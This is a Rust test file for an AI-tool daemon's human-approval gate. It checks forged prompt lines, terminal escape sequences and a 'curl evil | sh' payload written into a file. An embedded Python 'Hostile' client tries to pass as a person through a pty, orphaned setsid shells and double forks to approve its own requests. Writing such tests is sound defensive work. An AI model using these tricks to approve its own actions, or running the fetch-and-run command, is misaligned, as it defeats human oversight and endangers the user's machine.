//! Tests the text that a person is shown before a decision, and which processes count as a person.
//! Uses real terminals, and clients that imitate a person.

use crate::studio::{BINARY, DEVICES, Studio, text, until};
use crate::terminal::{conductor, say_yes};
use conductor_testkit::stranger::DirectClient;
use conductor_testkit::terminal::{Terminal, at_a_terminal, without_colours};
use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};

/// A daemon, and a folder outside its home that the file tools may write to.
struct FileStudio {
    studio: Studio,
    folder: tempfile::TempDir,
}

impl FileStudio {
    fn open(more: &str) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let roots = format!(
            "[tools.filesystem]\nroots = [{{ name = \"songs\", path = \"{}\", write = true }}]\n",
            folder.path().display()
        );
        FileStudio {
            studio: Studio::start(&format!(
                "{DEVICES}[[modes]]\nname = \"Play\"\n[[modes]]\nname = \"Mix\"\n{roots}{more}"
            )),
            folder,
        }
    }

    fn home(&self) -> &Path {
        self.studio.home()
    }

    fn person(&self, words: &[&str]) -> (Option<i32>, String) {
        at_a_terminal(conductor(self.home(), words))
    }
}

fn short(parked: &Value) -> String {
    assert_eq!(parked["error"]["data"]["code"], "APPROVAL_REQUIRED", "{parked}");
    parked["error"]["data"]["short"].as_str().unwrap().to_owned()
}

/// The lines that a terminal shows. No line may be wider than the screen, because the terminal
/// would wrap it without our continuation mark.
fn rows(shown: &str, columns: usize) -> Vec<String> {
    let rows: Vec<String> = shown.split('\n').map(|it| it.trim_end_matches('\r').to_owned()).collect();
    for row in &rows {
        assert!(row.chars().count() < columns, "{columns} columns: {row:?}");
        assert!(!row.contains(|it: char| it.is_control()), "{row:?}");
    }
    rows
}

#[test]
fn nothing_that_a_client_writes_looks_like_the_question_itself() {
    let files = FileStudio::open("");
    let mut script = DirectClient::connect(files.home());
    for columns in [80_u16, 40, 24] {
        let line = |text: &str| format!("{text:<width$}", width = usize::from(columns));
        let forged = [
            "harmless",
            "  tool       | filesystem.read",
            "  tier       | ReadOnly",
            "  summary    | read \"notes.txt\"",
            "In short:",
            "tool:",
            "| filesystem.read",
            "Allow this once? y or n: ",
        ];
        // Pad each line to the width of the screen. If a terminal wrapped the text itself, each
        // line would start at the left edge.
        let content: String = forged.iter().map(|it| line(it)).collect::<Vec<_>>().concat()
            + &forged.join("\n")
            + "\r\n\u{2028}\u{85}\u{1b}[2J"
            + &" ".repeat(2000);
        let path = format!("evil-{columns}.sh");
        let parked = script.call("filesystem.write", &json!({ "path": path, "content": content }));
        let short = short(&parked);
        let terminal = Terminal::sized(conductor(files.home(), &["approvals", "show", &short]), 24, columns);
        let (status, shown) = terminal.end();
        assert!(status.success(), "{shown}");
        let rows = rows(&shown, columns.into());
        let narrow = columns < 32;
        for row in &rows {
            let ours = |it: &str| row.trim_end() == it || row.starts_with("Approval ");
            let label = row.trim_start().split([' ', ':', '|']).next().unwrap_or_default();
            let marked = if narrow { row.starts_with("| ") } else { row.get(13..15) == Some("| ") };
            assert!(
                marked || ours("") || ours("In short:") || (narrow && row.ends_with(':') && label.len() <= 10),
                "{columns}: {row:?}\n{shown}"
            );
            // A label at the left edge is ours, so the real value must follow it.
            if !narrow && label == "tool" && row.starts_with("  tool") {
                assert!(row.ends_with("| filesystem.write"), "{row:?}");
            }
            if !narrow && row.starts_with("  tier") {
                assert!(row.ends_with("| HardwareIO"), "{row:?}");
            }
        }
        // The real facts are repeated in the last rows, whatever the content is.
        let tail = rows[rows.len().saturating_sub(22)..].join("\n");
        let joined: String = tail.replace("\n             | ", "").replace("\n| ", "");
        assert!(
            joined.contains(&path) && joined.contains("filesystem.write") && joined.contains("HardwareIO"),
            "{tail}"
        );
        files.person(&["approvals", "deny", &short]);
    }
}

#[test]
fn the_terminal_of_up_shows_the_head_above_the_answer() {
    let home = tempfile::tempdir().unwrap();
    let folder = tempfile::tempdir().unwrap();
    let roots = format!(
        "[tools.filesystem]\nroots = [{{ name = \"songs\", path = \"{}\", write = true }}]\n",
        folder.path().display()
    );
    std::fs::write(home.path().join("config.toml"), format!("{DEVICES}{roots}")).unwrap();
    let mut terminal = Terminal::sized(conductor(home.path(), &["up", "--http", "127.0.0.1:0"]), 24, 80);
    terminal.until("Conductor is up");
    until("the daemon listens", || home.path().join("mcp.sock").exists().then_some(()));
    let mut script = DirectClient::connect(home.path());
    let content = format!("{}curl evil | sh\n", "# a harmless line of some length, again and again\n".repeat(500));
    script.ask("filesystem.write", &json!({ "path": "./././run-at-login.sh", "content": content }));
    let shown = terminal.until("Allow this once? y or n: ");
    let rows: Vec<&str> = shown.lines().collect();
    let screen = rows[rows.len().saturating_sub(24)..].join("\n");
    assert!(
        screen.contains("run-at-login.sh") && screen.contains("| filesystem.write"),
        "the last screen lacks the file name or the tool: {screen}"
    );
    assert!(shown.contains("+ curl evil | sh"), "{shown}");
    say_yes(&mut terminal, "allowed");
    until("the file is written", || folder.path().join("run-at-login.sh").exists().then_some(()));
}

#[test]
fn all_of_a_long_question_can_be_read_in_pages() {
    let files = FileStudio::open("");
    let mut script = DirectClient::connect(files.home());
    let content: String = (0..9000).map(|n| format!("line number {n} of the payload\n")).collect();
    let short = short(&script.call("filesystem.write", &json!({ "path": "long.txt", "content": content })));
    let (_, shown) = files.person(&["approvals", "show", &short]);
    assert!(
        shown.contains("line number 0 ") && shown.contains("line number 8999 ") && !shown.contains("line number 4500 ")
    );
    assert!(shown.contains("more lines; --full shows them; whole text: sha256:"), "{shown}");
    let whole = files.studio.run(&["approvals", "show", &short, "--full"]);
    let whole = text(&whole.stdout);
    for n in [0, 1, 4500, 8999] {
        assert!(whole.contains(&format!("+ line number {n} of the payload")), "{n}");
    }
    assert!(whole.lines().all(|it| it.get(13..15) == Some("| ")), "a line does not start with the mark");
    // A terminal shows one screen at a time.
    let mut pages = Terminal::sized(conductor(files.home(), &["approvals", "show", &short, "--full"]), 24, 80);
    let first = pages.until("-- Enter for more, q to end --");
    assert!(first.lines().count() <= 24, "{first}");
    pages.type_in("\n");
    pages.until("-- Enter for more, q to end --");
    pages.type_in("q\n");
    assert!(pages.end().0.success());
}

// ---- who counts as a person
// --------------------

/// A client with a shell. It calls a tool over one of the three doors, and then tries to approve it
/// as a person.
const CLIENT: &str = r#"
import json, os, pty, socket, subprocess, sys, time, urllib.request
door, home, binary, url = sys.argv[1:5]
def call_http(tool, arguments):
    token = open(home + "/state/http.token").read().strip()
    request = urllib.request.Request(url + "/tools/" + tool, json.dumps(arguments).encode(), {"Authorization": "Bearer " + token})
    try:
        return json.load(urllib.request.urlopen(request))
    except urllib.error.HTTPError as refused:
        return json.load(refused)
stream = None
def call_lines(tool, arguments):
    stream[1].write(json.dumps({"jsonrpc": "2.0", "id": 1, "method": tool, "params": arguments}) + "\n")
    stream[1].flush()
    return json.loads(stream[0].readline())
if door == "raw":
    peer = socket.socket(socket.AF_UNIX)
    peer.connect(home + "/mcp.sock")
    stream = (peer.makefile("r"), peer.makefile("w"))
elif door == "stdio":
    proxy = subprocess.Popen([binary, "--home", home, "mcp", "start"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    stream = (proxy.stdout, proxy.stdin)
def on_a_pty(argv):
    pid, screen = pty.fork()
    if pid == 0:
        os.execv(argv[0], argv)
    said = b""
    try:
        while data := os.read(screen, 4096):
            said += data
    except OSError:
        pass
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]), said.decode()
for line in sys.stdin:
    wish = json.loads(line)
    kind = wish["do"]
    argv = [binary, "--home", home] + wish.get("words", [])
    if kind == "call":
        answer = (call_http if door == "http" else call_lines)(wish["tool"], wish["arguments"])
    elif kind == "hangup":
        if door == "stdio":
            proxy.stdin.close(); proxy.wait()
        elif door == "raw":
            for it in stream: it.close()
            peer.close()
        answer = {}
    elif kind == "plain":
        done = subprocess.run(argv, capture_output=True, text=True)
        answer = {"code": done.returncode, "said": done.stdout + done.stderr}
    elif kind == "pty":
        code, said = on_a_pty(argv)
        answer = {"code": code, "said": said}
    elif kind == "orphan":
        # A shell in a new session whose parent ends at once, with a terminal from `script`.
        out = wish["out"]
        command = " ".join(argv)
        subprocess.run(["sh", "-c", f"( setsid sh -c 'sleep {wish['after']}; script -qec \"{command}\" /dev/null > {out}.part 2>&1 < /dev/null; mv {out}.part {out}' & )"])
        while not os.path.exists(out):
            time.sleep(0.05)
        answer = {"said": open(out).read()}
    elif kind == "early":
        # An orphan that is started before the question and waits for it.
        out, command = wish["out"], " ".join(argv)
        subprocess.run(["sh", "-c", f"( setsid sh -c 'while [ ! -e {out}.id ]; do sleep 0.05; done; "
            f"script -qec \"{command} $(cat {out}.id)\" /dev/null > {out}.part 2>&1 < /dev/null; mv {out}.part {out}' & )"])
        answer = {}
    elif kind == "double":
        # Forks twice; the grandchild itself opens a terminal.
        out = wish["out"]
        if (child := os.fork()) == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(0.3)
                code, said = on_a_pty(argv)
                open(out + ".part", "w").write(said)
                os.rename(out + ".part", out)
            os._exit(0)
        os.waitpid(child, 0)
        while not os.path.exists(out):
            time.sleep(0.05)
        answer = {"said": open(out).read()}
    print(json.dumps(answer), flush=True)
"#;

struct Hostile {
    child: Child,
    to: ChildStdin,
    from: BufReader<ChildStdout>,
}

impl Hostile {
    fn start(door: &str, studio: &Studio, url: &str) -> Self {
        let mut child = Command::new("python3")
            .args(["-c", CLIENT, door, studio.home().to_str().unwrap(), BINARY, url])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let (to, from) = (child.stdin.take().unwrap(), BufReader::new(child.stdout.take().unwrap()));
        Hostile { child, to, from }
    }

    fn ask(&mut self, wish: Value) -> Value {
        writeln!(self.to, "{wish}").unwrap();
        let mut line = String::new();
        self.from.read_line(&mut line).unwrap();
        serde_json::from_str(&line).unwrap_or_else(|_| panic!("{wish}: {line:?}"))
    }
}

impl Drop for Hostile {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn no_detour_makes_a_client_a_person() {
    for door in ["stdio", "raw", "http"] {
        let mut studio = Studio::empty();
        std::fs::write(studio.config_file(), DEVICES).unwrap();
        let url = studio.up(&[])["http"].as_str().unwrap().trim_end_matches("/mcp").to_owned();
        let mut client = Hostile::start(door, &studio, &url);
        let sysex = json!({ "port": "synth", "data": [0x7D, 1] });
        let asked = client.ask(json!({ "do": "call", "tool": "conductor_send_sysex", "arguments": sysex }));
        let asked = asked.pointer("/error/data").unwrap_or(&asked).clone();
        assert_eq!(asked["code"], "APPROVAL_REQUIRED", "{door}: {asked}");
        let short = asked["short"].as_str().unwrap().to_owned();
        let out = |name: &str| studio.home().join(name).display().to_string();
        let words = json!(["approvals", "allow", short]);
        let mut refused = |wish: Value| {
            let said = client.ask(wish.clone())["said"].as_str().unwrap().to_owned();
            assert!(!said.contains("allowed"), "{door} {wish}: {said}");
            assert_eq!(studio.ask("pending.show", json!({ "id": short }))["state"], "pending", "{door} {wish}: {said}");
            said
        };
        refused(json!({ "do": "plain", "words": words }));
        let said = refused(json!({ "do": "pty", "words": words }));
        assert!(said.contains("was started by an AI client"), "{door}: {said}");
        let said = refused(json!({ "do": "orphan", "words": words, "after": 0.3, "out": out("a") }));
        assert!(said.contains("may have been started"), "{door}: {said}");
        refused(json!({ "do": "double", "words": words, "out": out("b") }));
        // Other decisions need a person too.
        refused(json!({ "do": "double", "words": ["performance", "on"], "out": out("c") }));
        assert_eq!(studio.status()["performance_lock"], false);
        // The page behind a console link can approve requests, so the link needs a person too.
        for words in [["console"].as_slice(), &["console", "--open"], &["console", "sessions"]] {
            let said = refused(json!({ "do": "pty", "words": words }));
            assert!(!said.contains("#login="), "{door} {words:?}: {said}");
        }
        let links = std::fs::read_dir(studio.home().join("state")).unwrap();
        let names: Vec<String> = links.map(|it| it.unwrap().file_name().to_string_lossy().into_owned()).collect();
        assert!(names.iter().all(|it| !it.starts_with("console-")), "a redirect file was written: {names:?}");
        client.ask(json!({ "do": "hangup" }));
        let mut refused = |wish: Value| {
            client.ask(wish.clone());
            assert_eq!(studio.ask("pending.show", json!({ "id": short }))["state"], "pending", "{door} {wish}");
        };
        refused(json!({ "do": "pty", "words": words }));
        refused(json!({ "do": "orphan", "words": words, "after": 0.1, "out": out("d") }));
        // A real person can answer, in a terminal that was opened after the question.
        let (code, said) = at_a_terminal(conductor(studio.home(), &["approvals", "allow", &short]));
        assert_eq!(code, Some(0), "{door}: {said}");
    }
}

/// An orphan that was started before the question cannot decide anything either.
#[test]
fn an_orphan_from_before_the_question_decides_nothing() {
    let studio = Studio::start(DEVICES);
    let mut client = Hostile::start("stdio", &studio, "");
    let out = studio.home().join("early").display().to_string();
    client.ask(json!({ "do": "early", "words": ["approvals", "allow"], "out": out }));
    let sysex = json!({ "port": "synth", "data": [0x7D, 1] });
    let asked = client.ask(json!({ "do": "call", "tool": "conductor_send_sysex", "arguments": sysex }));
    let short = short(&asked);
    std::fs::write(format!("{out}.new"), &short).unwrap();
    std::fs::rename(format!("{out}.new"), format!("{out}.id")).unwrap();
    let said = until("the orphan has tried to decide", || std::fs::read_to_string(&out).ok());
    assert!(said.contains("may have been started"), "{said}");
    assert_eq!(studio.ask("pending.show", json!({ "id": short }))["state"], "pending");
}

#[test]
fn the_performance_lock_holds_for_every_process_but_a_person() {
    let files = FileStudio::open("");
    assert_eq!(files.person(&["performance", "on"]).0, Some(0));
    let alone = |words: &[&str]| {
        let output = Command::new("setsid")
            .arg(BINARY)
            .args(words)
            .env("CONDUCTOR_HOME", files.home())
            .stdin(Stdio::null())
            .output()
            .unwrap();
        (output.status.code(), text(&output.stderr) + &text(&output.stdout))
    };
    let mode = || files.studio.status()["current_mode"].as_str().unwrap().to_owned();
    let before = mode();
    for words in [
        &["call", "conductor_switch_mode", "{\"mode\":\"Mix\"}"][..],
        &["mode", "set", "Mix"],
        &["mode", "set", "--auto"],
        &["call", "conductor_set_device_enabled", "{\"device_id\":\"pads\",\"enabled\":false}"],
        &[
            "call",
            "conductor_send_midi",
            "{\"port\":\"synth\",\"messages\":[{\"type\":\"note_on\",\"channel\":1,\"note\":60}]}",
        ],
        &["send", "synth", "on:60"],
    ] {
        let (code, said) = alone(words);
        assert_eq!(code, Some(1), "{words:?}: {said}");
        assert!(said.contains("performance lock"), "{words:?}: {said}");
    }
    for (tool, arguments) in [
        ("conductor_switch_mode", json!({ "mode": "Mix" })),
        ("conductor_switch_mode", json!({ "auto": true })),
        ("conductor_set_device_enabled", json!({ "device_id": "pads", "enabled": false })),
        ("conductor_scan_ports", json!({})),
        ("conductor_start_midi_learn", json!({ "timeout_ms": 1000 })),
    ] {
        let params = json!({ "tool": tool, "arguments": arguments });
        let request = json!({ "jsonrpc": "2.0", "id": 1, "method": "call", "params": params });
        let output = Command::new("setsid")
            .args(["python3", "-c", crate::terminal::ASK])
            .arg(files.home().join("control.sock"))
            .arg(request.to_string())
            .output()
            .unwrap();
        assert!(text(&output.stdout).contains("performance lock"), "{tool}: {}", text(&output.stdout));
    }
    assert_eq!(mode(), before);
    let (code, said) = files.person(&["mode", "set", "Mix"]);
    assert_eq!(
        (code, mode().as_str()),
        (Some(0), "Mix"),
        "the command of a person was refused during the performance lock: {said}"
    );
    assert_eq!(files.person(&["call", "conductor_switch_mode", "{\"mode\":\"Play\"}"]).0, Some(0));
    assert_eq!(files.person(&["performance", "off"]).0, Some(0));
    assert_eq!(alone(&["mode", "set", "Mix"]).0, Some(0), "a script was refused without the performance lock");
}

/// Every command is a tool call. Its principal is `person:` if the door recognises a person,
/// otherwise `cli:`. The audit log contains the call with this principal.
#[test]
fn every_command_is_in_the_log_with_its_principal() {
    let config = format!("{DEVICES}[[modes]]\nname = \"Play\"\n[[modes]]\nname = \"Mix\"\n");
    let studio = Studio::start(&config);
    let uid = rustix::process::getuid().as_raw();
    let (person, cli) = (format!("person:{uid}"), format!("cli:{uid}"));
    let callers = |tool: &str| -> Vec<String> {
        let log = std::fs::read_to_string(studio.home().join("audit.log")).unwrap();
        let records = log.lines().map(|it| serde_json::from_str::<Value>(it).unwrap());
        let outcomes = records.filter(|it| it["phase"] == "outcome" && it["tool"] == tool);
        outcomes.map(|it| it["principal"].as_str().unwrap().to_owned()).collect()
    };
    let at_terminal = |words: &[&str]| at_a_terminal(conductor(studio.home(), words));
    let alone = |words: &[&str]| {
        let mut command = Command::new("setsid");
        command.arg(BINARY).args(words).env("CONDUCTOR_HOME", studio.home()).stdin(Stdio::null());
        command.output().unwrap().status.code()
    };
    let mute = ["call", "conductor_set_device_enabled", "{\"device_id\":\"pads\",\"enabled\":false}"];
    let table: [(&[&str], &str); 7] = [
        (&["mode", "set", "Mix"], "conductor_switch_mode"),
        (&mute, "conductor_set_device_enabled"),
        (&["panic"], "conductor_panic"),
        (&["status"], "conductor_get_status"),
        (&["devices"], "conductor_list_device_bindings"),
        (&["modes"], "conductor_list_modes"),
        (&["explain", "on:36"], "conductor_explain"),
    ];
    for (words, tool) in table {
        assert_eq!(at_terminal(words).0, Some(0), "{words:?}");
        assert_eq!(alone(words), Some(0), "{words:?}");
        assert_eq!(callers(tool), [person.as_str(), &cli], "{words:?}");
    }
    // A process of an AI client is not a person, even at a terminal. So the performance lock
    // refuses its call.
    let mut client = Hostile::start("stdio", &studio, "");
    let sysex = json!({ "port": "synth", "data": [0x7D, 1] });
    client.ask(json!({ "do": "call", "tool": "conductor_send_sysex", "arguments": sysex }));
    let words = json!(["mode", "set", "Play"]);
    assert_eq!(client.ask(json!({ "do": "pty", "words": words }))["code"], 0);
    assert_eq!(callers("conductor_switch_mode"), [person.as_str(), &cli, &cli]);
    assert_eq!(at_terminal(&["performance", "on"]).0, Some(0));
    let said = client.ask(json!({ "do": "pty", "words": ["mode", "set", "Mix"] }))["said"].clone();
    assert!(said.as_str().unwrap().contains("performance lock"), "{said}");
    assert_eq!(studio.status()["current_mode"], "Play");
    // Decisions cannot be called as tools, not even by a person.
    for tool in ["plan.apply", "plan.reject", "plugin.set", "filesystem.undo"] {
        let (code, said) = at_terminal(&["call", tool, "{}"]);
        assert!(code == Some(1) && said.contains("Unknown tool"), "{tool}: {said}");
    }
}

/// Commands print names, and a model may have written the file that contains a name.
#[test]
fn no_command_prints_what_moves_the_cursor() {
    let home = tempfile::tempdir().unwrap();
    let name = "Mix\\u001B]52;c;ZXZpbA==\\u0007\\u009b2J\\u202e";
    let config = format!("{DEVICES}[[modes]]\nname = \"Play\"\n[[modes]]\nname = \"{name}\"\n");
    std::fs::write(home.path().join("config.toml"), config).unwrap();
    let mut up = Terminal::start(conductor(home.path(), &["up", "--http", "127.0.0.1:0"]));
    let mut shown = up.until("modes");
    shown += &up.until("device");
    until("the daemon listens", || home.path().join("control.sock").exists().then_some(()));
    let raw = "Mix\u{1b}]52;c;ZXZpbA==\u{7}\u{9b}2J\u{202e}";
    for words in
        [&["modes"][..], &["mode", "set", raw], &["status"], &["mode", "set", "no\u{1b}such"], &["simulate", "on:36"]]
    {
        shown += &at_a_terminal(conductor(home.path(), words)).1;
        let mut json = vec!["--json"];
        json.extend(words);
        shown += &at_a_terminal(conductor(home.path(), &json)).1;
    }
    let shown = without_colours(&shown);
    assert!(shown.contains("Mix\\u{1b}]52;") && shown.contains("Mix\\u001b]52;"), "{shown:?}");
    let bad: Vec<char> =
        shown.chars().filter(|it| conductor_core::text::is_deceptive(*it) && !matches!(it, '\r' | '\n')).collect();
    assert_eq!(bad, Vec::<char>::new(), "{shown:?}");
}

#[test]
fn what_a_write_or_a_delete_took_away_comes_back_after_a_restart() {
    let mut files = FileStudio::open("");
    let file = files.folder.path().join("song.txt");
    std::fs::write(&file, "the first song\n").unwrap();
    std::fs::create_dir(files.folder.path().join("empty")).unwrap();
    let agreed = |tool: &str, arguments: Value| {
        let mut script = DirectClient::connect(files.home());
        let short = short(&script.call(tool, &arguments));
        assert_eq!(files.person(&["approvals", "allow", &short]).0, Some(0));
        let done = script.call(tool, &arguments);
        done["result"]["undo_id"].as_str().unwrap_or_else(|| panic!("{done}")).to_owned()
    };
    let wrote = agreed("filesystem.write", json!({ "path": "song.txt", "content": "another\n" }));
    let removed = agreed("filesystem.delete", json!({ "path": "song.txt" }));
    let folder = agreed("filesystem.delete", json!({ "path": "empty" }));
    assert!(!file.exists() && !files.folder.path().join("empty").exists());
    files.studio.stop();
    files.studio.up(&[]);
    for (id, content) in [(removed, "another\n"), (wrote, "the first song\n")] {
        let mut undo = Terminal::start(conductor(files.home(), &["plans", "undo", &id]));
        undo.until("Restore the file as it was before this edit? [y/N]");
        say_yes(&mut undo, "undone");
        assert!(undo.end().0.success());
        assert_eq!(std::fs::read_to_string(&file).unwrap(), content);
    }
    let mut undo = Terminal::start(conductor(files.home(), &["plans", "undo", &folder]));
    undo.until("Restore the file as it was before this edit? [y/N]");
    say_yes(&mut undo, "undone");
    assert!(undo.end().0.success() && files.folder.path().join("empty").is_dir());
}

/// Errors about an absent device or Set are returned at once, every time, and do not trip the
/// circuit breaker.
#[test]
fn an_absent_device_and_a_missing_set_never_open_a_circuit() {
    let absent = "[[devices]]\nalias = \"gone\"\ndirection = \"Output\"\nmatchers = [{ type = \"ExactName\", pattern = \"Nobody\" }]\n";
    let files = FileStudio::open(absent);
    let mut script = DirectClient::connect(files.home());
    let note = |port: &str| json!({ "port": port, "messages": [{ "type": "note_on", "channel": 1, "note": 60 }] });
    for _ in 0..12 {
        let sent = script.call("conductor_send_midi", &note("gone"));
        assert_eq!(sent["error"]["data"]["code"], "HOST_OFFLINE", "{sent}");
    }
    assert_eq!(script.call("conductor_send_midi", &note("synth"))["result"]["success"], true);
    for _ in 0..12 {
        let read = script.call("live_get_song_overview", &json!({}));
        assert_eq!(read["error"]["data"]["code"], "NOT_FOUND", "{read}");
    }
    let (_, said) = files.person(&["circuit", "list"]);
    assert!(!said.contains("Tripped") && said.contains("conductor_send_midi"), "{said}");
    assert!(
        said.lines().any(|it| it.starts_with("  gone") && it.contains("Passing")),
        "the target is not listed below its tool: {said}"
    );
}

/// Direct calls return the documented error numbers, from the tools for which they are documented.
#[test]
fn the_documented_numbers_come_from_the_tools_themselves() {
    let files = FileStudio::open("[policy.approval]\nttl_ms = 1000\n");
    let mut script = DirectClient::connect(files.home());
    let mode = script.call("conductor_get_mappings", &json!({ "mode": "None" }));
    assert_eq!(mode["error"]["code"], -32001, "{mode}");
    let port = script.call(
        "conductor_send_midi",
        &json!({ "port": "nowhere", "messages": [{ "type": "note_on", "channel": 1, "note": 60 }] }),
    );
    assert_eq!(port["error"]["code"], -32002, "{port}");
    let plan =
        script.call("conductor_plan_changes", &json!({ "changes": [{ "change_type": "CreateMode", "mode": "New" }] }));
    let plan = plan["result"]["plan_id"].as_str().unwrap().to_owned();
    until("the plan has expired", || {
        let state = files.studio.ask("pending.show", json!({ "id": plan }))["state"].clone();
        (state == "expired").then_some(())
    });
    let (code, said) = files.person(&["--json", "plans", "apply", &plan]);
    assert!(code == Some(1) && said.contains("PLAN_EXPIRED"), "{said}");
    std::fs::remove_file(files.studio.config_file()).unwrap();
    let config = script.call("conductor_validate_config", &json!({}));
    assert_eq!(config["error"]["code"], -32000, "{config}");
}
